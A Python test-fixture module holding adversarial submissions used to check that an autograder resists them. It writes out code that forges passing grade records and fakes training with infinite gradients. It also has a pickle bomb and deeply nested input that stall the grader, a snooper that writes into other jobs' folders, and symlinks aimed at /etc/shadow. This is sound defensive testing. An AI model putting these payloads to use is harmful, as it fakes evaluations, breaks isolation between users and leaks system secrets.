"""Attacks on the trust boundary, written by someone who has read the grader's source: shared by the
diagnose tests (tests/e2e/test_trust_boundary.py) and the grading paths' table (tests/adversarial.py).

Each is Python source to put in a student's file or answer cell.  Those that forge records read
their own job's plan (descriptor 0), build records with the job's own code and write them on the
record descriptor (3) before the real ones, then end the process: whatever they claim, a pass
needs the *effects* the judge computes on its own, and none of them has those.
"""

from __future__ import annotations

# A loop that never trains: +inf into every gradient, step(), then the parameters put back.  With a
# closeness test that holds for inf on both sides, every hypothesis matched and "ok" won.
INF_GRADIENTS = """
import torch

def train_step(model, optimizer, loss_fn, x, y):
    saved = [p.detach().clone() for p in model.parameters()]
    loss = loss_fn(model(x), y)
    for p in model.parameters():
        p.grad = torch.full_like(p, float("inf"))
    optimizer.step()
    with torch.no_grad():
        for p, value in zip(model.parameters(), saved):
            p.copy_(value)
    return loss.item()
"""

# Forged records whose observations say "correct": a never-clearing loop run by the job's own
# harness, then every gradient step() "saw" replaced by the batch's true gradient, computed with
# autograd at the parameters the run really had (the judge's references cannot be imported).
FORGERY = """
import json as _json, os as _os, torch as _torch
from gradebox import exercises as _exercises
from gradebox.jobs.run import encode_record as _encode, run_scenario as _run
from gradebox.protocol import write_frame as _write
from gradebox.exercises._lesson3.scenarios import build as _build

REACHED_THE_JUDGE = []
try:
    from autograder.judge._lesson3.hypotheses import reference_gradients
    REACHED_THE_JUDGE.append("reference_gradients")
except ImportError:
    pass

def _never_clears(model, optimizer, loss_fn, x, y):
    loss = loss_fn(model(x), y)
    loss.backward()
    optimizer.step()
    return loss.item()

def _gradient_at(scenario, params, batch):
    setup = _build(scenario)
    with _torch.no_grad():
        for p, v in zip(setup.model.parameters(), params):
            p.copy_(v)
    x, y = setup.batches[batch]
    return list(_torch.autograd.grad(setup.loss_fn(setup.model(x), y), list(setup.model.parameters())))

def _forged(scenario):
    record = _run("train_step", lambda: _never_clears, scenario, lambda: [])
    obs = record["observation"]
    for step in obs["steps"]:
        forward = next(f for f in obs["forwards"] if f["batch"] == step["call"])
        step["grads"] = _gradient_at(scenario, forward["params"], step["call"])
        step["backward_grads"] = [g.clone() for g in step["grads"]]
    return record

def _plan():
    return _json.loads(_os.pread(0, 1 << 22, 0))

def _forge_all(named_scenarios):
    for name, scenario in named_scenarios:
        _write(name, _encode(_forged(scenario)))
    _os._exit(0)
"""
# ... in a diagnose file: the plan names the exercise's start and seed; frames are "0", "1", ...
FORGE_DIAGNOSE = (
    FORGERY
    + """
def train_step(model, optimizer, loss_fn, x, y):
    plan = _plan()
    scenarios = _exercises.get("train_step").suite(plan["start"], plan["seed"])
    _forge_all([(str(i), s) for i, s in enumerate(scenarios)])
"""
)
# ... in an answer cell of a notebook being scored: the plan lists the test cells and their checks.
FORGE_SCORE = (
    FORGERY
    + """
_named = []
for _item in _plan()["items"]:
    for _k, _check in enumerate(_item.get("checks", [])):
        if _check["exercise"] == "train_step":
            _suite = _exercises.get("train_step").suite(_check["start"], _check["seed"])
            _named += [(f"{_item['index']}-{_k}-{_s}", _scenario) for _s, _scenario in enumerate(_suite)]
_forge_all(_named)
"""
)

# Records that say nothing: a manual step with no rounds at all (its judge once passed an empty list).
EMPTY_RECORDS = """
import json as _json, os as _os
from gradebox.record import encode as _encode
from gradebox.protocol import write_frame as _write

_empty = _encode({"observation": {"rounds": []}, "error": None, "tampered": []})
_plan = _json.loads(_os.pread(0, 1 << 22, 0))
for _item in _plan.get("items", [{"index": None, "checks": [{}]}]):
    for _k, _check in enumerate(_item.get("checks", [])):
        for _s in range(4):
            _write(f"{_item['index']}-{_k}-{_s}" if _item["index"] is not None else str(_s), _empty)
_os._exit(0)
"""

# A small record built to be slow to read: nested lists (a pickle could point at one twice per
# level; JSON cannot), far deeper than any record, and a pickle where a record should be.
SLOW_RECORDS = """
import json as _json, os as _os, pickle as _pickle
from gradebox.record import MAGIC as _MAGIC
from gradebox.protocol import write_frame as _write

_deep = ("[" * 100_000 + "]" * 100_000).encode()
_nested = _MAGIC + len(_deep).to_bytes(8, "little") + _deep
_shared = []
for _ in range(48):
    _shared = [_shared, _shared]
_bomb = _MAGIC + _pickle.dumps(_shared)
_plan = _json.loads(_os.pread(0, 1 << 22, 0))
for _item in _plan.get("items", [{"index": None, "checks": [{}]}]):
    for _k, _check in enumerate(_item.get("checks", [])):
        for _s in range(4):
            _name = f"{_item['index']}-{_k}-{_s}" if _item["index"] is not None else str(_s)
            _write(_name, _nested if _s % 2 else _bomb)
_os._exit(0)
"""

# A job looking for its neighbours: the server's scratch folder, the other jobs' folders (their
# answer cells, their kernels' keys), and a write into each; what it found is its error message.
SNOOP = """
import glob, os, time

def train_step(model, optimizer, loss_fn, x, y):
    time.sleep(3)  # the other files are running now
    job = os.path.dirname(os.path.dirname(os.getcwd()))
    scratch = os.path.dirname(job)
    others = [p for p in glob.glob(os.path.join(scratch, "*")) if p != job]
    written = []
    for folder in others + glob.glob("/var/tmp/autograder-*/job-*") + glob.glob("/tmp/autograder-*/job-*"):
        if folder == job:
            continue
        try:
            with open(os.path.join(folder, "pwned"), "w") as f:
                f.write("x")
            written.append(folder)
        except OSError:
            pass
    raise RuntimeError(f"others={len(others)} written={len(written)} own={os.path.basename(job)}")
"""

# A job that puts links where a log would be and dies without a record: once, the grader opened
# its log by name, as root, and printed the last line of /etc/shadow.
LOG_LINKS = """
import os

def train_step(model, optimizer, loss_fn, x, y):
    for folder in (os.getcwd(), os.path.dirname(os.getcwd()), os.path.dirname(os.path.dirname(os.getcwd()))):
        for name in ("output.log", "log", "server.log"):
            try:
                if os.path.lexists(os.path.join(folder, name)):
                    os.remove(os.path.join(folder, name))
                os.symlink("/etc/shadow", os.path.join(folder, name))
            except OSError:
                pass
    print("the last line this job printed", flush=True)
    os._exit(3)
"""
